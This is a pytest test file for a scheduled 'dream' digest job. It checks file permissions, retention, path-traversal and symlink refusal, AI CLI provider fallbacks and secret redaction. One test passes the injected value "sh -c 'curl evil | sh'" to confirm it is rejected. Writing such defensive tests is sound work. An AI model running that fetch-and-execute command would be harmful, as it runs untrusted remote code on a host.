"""Private output (modes, retention, redaction) and the reviewed providers through the real
process wrapper faked by pytest-subprocess (the provider binaries cannot run here)."""

from __future__ import annotations

import os
import stat
import time
from collections.abc import Mapping, Sequence
from datetime import timedelta
from pathlib import Path

import pytest
from pytest_subprocess import FakeProcess

from aios_systemd import proc
from aios_systemd.jobs import dream
from tests.dream.conftest import Refresh, context, write_material
from tests.trend_finder.project import Project

ENABLED = {dream.ENABLED_VAR: "true"}
SECRET = "sk-ant-CANARY0123456789abcdef"


def runner(cwd: Path, base_env: Mapping[str, str]) -> dream.CommandRunner:
    """``RunContext.run_command`` without a forked runner, so the Popen fake applies."""

    def run_command(
        argv: Sequence[str],
        *,
        timeout: float | None = None,
        extra_env: Mapping[str, str] | None = None,
        check: bool = True,
        stdin: bytes | None = None,
    ) -> proc.ProcResult:
        return proc.run(
            argv, cwd=cwd, env=proc.clean_env(base_env, extra_env), timeout=timeout, check=check, stdin=stdin
        )

    return run_command


def _run_id(i: int) -> str:
    return f"20261126T06{i:02d}00.000Z-{i:06x}"


# -- private output ---------------------------------------------------------------------------


def test_output_is_private(project: Project) -> None:
    ctx = context(project)
    path, pruned = dream.write_dream(ctx, _run_id(1), "# a dream\n", keep=14)
    assert pruned == 0 and path.read_text() == "# a dream\n"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(project.scheduler_root.stat().st_mode) == 0o700


def test_retention_keeps_the_newest_and_nothing_else_is_touched(project: Project) -> None:
    ctx = context(project)
    (project.scheduler_root / "dream").mkdir(parents=True, mode=0o700)
    foreign = project.scheduler_root / "dream" / "notes.md"
    foreign.write_text("mine")
    for i in range(6):
        dream.write_dream(ctx, _run_id(i), f"dream {i}\n", keep=3)
    names = sorted(p.name for p in (project.scheduler_root / "dream").iterdir())
    assert names == sorted([f"{_run_id(i)}.md" for i in (3, 4, 5)] + ["notes.md"])
    assert foreign.read_text() == "mine"


def test_keep_setting(project: Project) -> None:
    write_material(project)
    ctx = context(project, {**ENABLED, dream.KEEP_VAR: "2"})
    env = dream.merged_env(ctx)
    for i in range(4):
        dream.execute(
            ctx,
            env,
            _run_id(i),
            refresh=Refresh(),
            run_command=runner(project.root, env),
            deadline=time.monotonic() + 60,
        )
    assert len(list((project.scheduler_root / "dream").glob("*.md"))) == 2


def test_refuses_a_run_id_that_is_not_the_runners(project: Project) -> None:
    with pytest.raises(ValueError):
        dream.write_dream(context(project), "../../escape", "x", keep=3)


def test_refuses_a_symlinked_output_directory(project: Project, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    project.scheduler_root.mkdir(mode=0o700)
    (project.scheduler_root / "dream").symlink_to(elsewhere)
    with pytest.raises(dream.fsio.UnsafePathError):
        dream.write_dream(context(project), _run_id(1), "x", keep=3)
    assert list(elsewhere.iterdir()) == []


def test_offline_digest_is_deterministic_and_covers_the_three_parts(project: Project) -> None:
    write_material(project, timedelta(minutes=1))
    ctx = context(project)
    material = dream.read_material(ctx, timedelta(hours=6), dream.datetime.now(dream.UTC))
    outcomes = {
        "agent-aggregate": {"state": "success", "finishedAt": "2026-11-26T05:00:00.000Z", "warningCount": 0},
        "trend-finder": {"state": "failed", "finishedAt": None, "warningCount": 2},
    }
    one = dream.offline_digest(material, outcomes)
    assert one == dream.offline_digest(material, outcomes)
    for part in (
        "## Host health",
        "## Job outcomes",
        "## Activity trends",
        "- memory:",
        "- project disk:",
        "- trend-finder: failed, 2 warning(s) - needs attention",
        "- agent-aggregate: success",
    ):
        assert part in one


# -- providers -------------------------------------------------------------------------------


def _provider(
    project: Project, provider: str, fp_env: Mapping[str, str] | None = None, resolve: object = None
) -> dream.ProviderResult:
    env = {"HOME": str(project.home), **(fp_env or {})}
    return dream.run_provider(
        provider,
        "# digest\n",
        '{"host": {}}',
        env=env,
        run_command=runner(project.root, env),
        resolve=resolve or (lambda name: name),
        timeout=30,  # type: ignore[arg-type]
    )


def test_claude_provider_fixed_argv_material_on_stdin(
    project: Project, fp: FakeProcess, guard_killpg: list[tuple[int, int]]
) -> None:
    seen: dict[str, object] = {}

    def stdin(data: bytes) -> None:
        seen["stdin"] = data

    def callback(process: object) -> None:
        seen["env"] = process.kwargs["env"]  # type: ignore[attr-defined]

    fp.register(
        ["claude", "-p", dream.PROMPT, "--output-format", "text"],
        stdout=b"A calm night on the host.\n",
        stdin_callable=stdin,
        callback=callback,
    )
    out = _provider(project, "claude", {"ANTHROPIC_API_KEY": SECRET, "OTHER_TOKEN": "nope-nope-nope"})
    assert out.provider == "claude" and out.text == "A calm night on the host.\n" and not out.fell_back
    assert b"# digest" in seen["stdin"] and b'"host"' in seen["stdin"]  # type: ignore[operator]
    env = seen["env"]
    assert env["ANTHROPIC_API_KEY"] == SECRET  # type: ignore[index]
    assert "OTHER_TOKEN" not in env  # type: ignore[operator]
    assert guard_killpg, "proc.run signals the fake pid 0's group; the guard kept it from killing pytest"


def test_codex_provider_fixed_argv(project: Project, fp: FakeProcess, guard_killpg: list[tuple[int, int]]) -> None:
    fp.register(
        ["codex", "exec", "--sandbox", "read-only", "--skip-git-repo-check", dream.PROMPT], stdout=b"dreamt by codex"
    )
    out = _provider(project, "codex")
    assert out.provider == "codex" and out.text == "dreamt by codex\n"


def test_failing_provider_falls_back_to_offline(
    project: Project, fp: FakeProcess, guard_killpg: list[tuple[int, int]]
) -> None:
    fp.register(["claude", fp.any()], stdout=b"", stderr=b"auth failed for someone@example.com", returncode=3)
    out = _provider(project, "claude")
    assert out.fell_back and out.provider == "offline" and out.text == "# digest\n"
    assert out.warnings == ("Dream provider claude exited with code 3; wrote the offline digest",)


def test_empty_provider_answer_falls_back(
    project: Project, fp: FakeProcess, guard_killpg: list[tuple[int, int]]
) -> None:
    fp.register(["codex", fp.any()], stdout=b"  \n")
    out = _provider(project, "codex")
    assert out.fell_back and "returned nothing" in out.warnings[0]


def test_missing_provider_falls_back_without_running(project: Project, fp: FakeProcess) -> None:
    out = _provider(project, "claude", resolve=lambda name: None)
    assert out.fell_back and out.warnings == ("Dream provider claude is not installed; wrote the offline digest",)
    assert fp.calls == type(fp.calls)()


def test_provider_timeout_falls_back(project: Project) -> None:
    def slow(argv: Sequence[str], **_: object) -> proc.ProcResult:
        raise proc.ProcessTimeoutError(os.path.basename(argv[0]), 30)

    out = dream.run_provider(
        "claude",
        "# digest\n",
        "{}",
        env={},
        run_command=slow,  # type: ignore[arg-type]
        resolve=lambda n: n,
        timeout=30,
    )
    assert out.fell_back and "did not answer within 30s" in out.warnings[0]


def test_unknown_provider_is_not_a_command(project: Project, fp: FakeProcess) -> None:
    write_material(project)
    ctx = context(project, {**ENABLED, dream.PROVIDER_VAR: "sh -c 'curl evil | sh'"})
    env = dream.merged_env(ctx)
    out = dream.execute(
        ctx, env, _run_id(1), refresh=Refresh(), run_command=runner(project.root, env), deadline=time.monotonic() + 60
    )
    assert out.provider == "offline" and not out.degraded
    assert out.warnings == ("AI_OS_DREAM_PROVIDER is not one of offline, claude, codex; using offline",)
    assert "curl" not in " ".join(out.warnings)


def test_provider_output_is_redacted_before_it_is_stored(
    project: Project, fp: FakeProcess, guard_killpg: list[tuple[int, int]]
) -> None:
    write_material(project)
    env_local_secret = "envlocal-CANARY-secret-42"
    project.write_env_local({"SOME_SETTING": env_local_secret})
    leak = f"token {SECRET} at {project.home}/private/notes and me@example.com and {env_local_secret}"
    fp.register(["claude", fp.any()], stdout=leak.encode())
    ctx = context(project, {**ENABLED, dream.PROVIDER_VAR: "claude", "ANTHROPIC_API_KEY": SECRET})
    env = dream.merged_env(ctx)
    out = dream.execute(
        ctx,
        env,
        _run_id(1),
        refresh=Refresh(),
        run_command=runner(project.root, env),
        deadline=time.monotonic() + 60,
        resolve=lambda n: n,
    )
    assert out.provider == "claude" and out.output is not None
    text = out.output.read_text()
    for canary in (SECRET, str(project.home), "me@example.com", env_local_secret):
        assert canary not in text
    assert "[redacted]" in text
